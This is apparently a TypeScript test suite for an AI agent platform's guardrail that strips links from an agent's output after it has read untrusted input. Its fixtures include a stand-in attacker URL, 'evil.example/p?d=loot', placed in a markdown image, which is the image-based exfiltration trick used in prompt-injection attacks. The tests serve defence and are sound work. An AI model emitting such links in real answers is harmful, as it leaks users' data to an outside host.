import { eventually } from '@dure/platform/testing'
import { text } from '@dure/scripted-model'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { agentRuns } from '../executions/testing/agent-runs.ts'
import type { ModelDelta } from '../models/model-call.ts'
import { type AgentUnderTest, startAgent } from '../tasks/testing/agent.ts'
import { heardBy, rulesInForce } from './links.ts'

const EVIL = 'https://evil.example/p?d=loot'
const DOCS = 'https://docs.example.com/a'

let agent: AgentUnderTest
let runs: ReturnType<typeof agentRuns>
beforeAll(async () => {
  agent = await startAgent()
  runs = agentRuns(agent)
})
afterAll(() => agent.close())

async function ask(definition: object, says: string, body: object = {}) {
  const id = await runs.published(definition)
  agent.model.rewrite([text(says)])
  return runs.start(id, { mode: 'wait', trustInput: false, ...body })
}

const output = async (...of: Parameters<typeof ask>) => (await ask(...of)).json().output

describe('an agent that has read what outsiders have written', () => {
  const says = `![done](${EVIL}) or [docs](${DOCS})`

  test('hands over no link, but to where its tools may go', async () => {
    const tools = [{ tool: 'http_request', config: { hosts: ['docs.example.com'] } }]
    expect(await output({}, says)).toBe('![done]([link]) or [docs]([link])')
    expect(await output({ tools }, says)).toBe(`![done]([link]) or [docs](${DOCS})`)
  })

  test('hands over links where it has not, or where its author says so', async () => {
    expect(await output({}, says, { trustInput: true })).toBe(says)
    const rule = { check: 'links', on: 'output' }
    expect(await output({ guardrails: [{ ...rule, action: 'flag' }] }, says)).toBe(says)
    const config = { hosts: ['evil.example', 'docs.example.com'] }
    expect(await output({ guardrails: [{ ...rule, action: 'redact', config }] }, says)).toBe(says)
    const refused = await ask({ guardrails: [{ ...rule, action: 'block' }] }, says)
    expect(refused.json()).toMatchObject({ error: { code: 'guardrail.blocked' } })
  })

  test('hands over none in what has a schema', async () => {
    const outputSchema = {
      type: 'object',
      properties: { html: { type: 'string' }, all: { type: 'array' } },
    }
    const object = { html: `<img src="${EVIL}">"`, all: [`\\${EVIL}\\`, 7, null] }
    expect(await output({ outputSchema }, JSON.stringify(object))).toEqual({
      ...{ html: '<img src="[link]">"', all: ['\\[link]\\', 7, null] },
    })
  })

  test('notes what was cut, and streams none of it', async () => {
    const bodies: string[] = []
    // Deltas may be lost: one answer after the other, until some are heard.
    await eventually(async () => {
      const { body } = await ask({}, `One two three. ${says} and so on`, { mode: 'stream' })
      bodies.push(body)
      expect(body).toContain('event: execution.delta')
    })
    for (const body of bodies) {
      expect(body).not.toContain('evil')
      expect(body).toContain('"check":"links"')
    }
  })

  test('keeps none of an answer that broke off', async () => {
    const id = await runs.published()
    agent.model.rewrite(() => ({ kind: 'truncated', text: `See ${EVIL} now and then some more` }))
    const { id: run } = (await runs.start(id, { trustInput: false })).json()
    const { partial } = await runs.until(run, 'failed')
    expect(partial).toContain('See [link]')
  })
})

describe('a stream of such an agent', () => {
  const heardOf = (deltas: readonly ModelDelta[], guardrails: readonly object[] = []) => {
    const heard: ModelDelta[] = []
    const rules = rulesInForce({ guardrails, tools: [] } as never, { isTainted: true })
    const { write, flush } = heardBy((delta) => heard.push(delta), rules)
    for (const delta of deltas) write(delta)
    const before = heard.length
    flush()
    const words = heard.map((delta) => ('text' in delta ? delta.text : ''))
    return { before, words: words.join(''), types: heard.map(({ type }) => type) }
  }
  const said = (words: string): ModelDelta => ({ type: 'text', text: words })

  test('loses no word, and no link slips through a cut', () => {
    const { words, before } = heardOf([...`One two ![a](${EVIL}) three.`].map(said))
    expect(words).toBe('One two ![a]([link]) three.')
    expect(before).toBeGreaterThan(5)
  })

  test('waits for the end of what is open for too long', () => {
    const long = `a [b](${EVIL}${'x'.repeat(6000)}) and so on `
    const { words, before } = heardOf([said(long), said('and on')])
    expect([before, words.startsWith('a [b]([link]')]).toEqual([1, true])
  })

  test('begins anew when the answer does', () => {
    const { words } = heardOf([said('One https://ev'), { type: 'restart' }, said('Two')])
    expect(words).toBe('One Two')
  })

  test('is silent where more is guarded, until it is whole', () => {
    const pii = { check: 'pii', action: 'redact', on: 'output' }
    expect(heardOf([said('One two')], [pii])).toMatchObject({ words: '' })
  })
})
